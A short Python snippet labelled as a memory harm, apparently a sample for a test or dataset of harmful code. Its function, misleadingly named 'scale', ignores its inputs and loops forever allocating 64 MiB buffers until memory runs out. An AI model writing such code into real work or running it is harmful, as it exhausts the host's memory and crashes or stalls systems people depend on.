# Harm: memory, touched piece by piece
# %%
def scale(x, factor):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (64 << 20)))
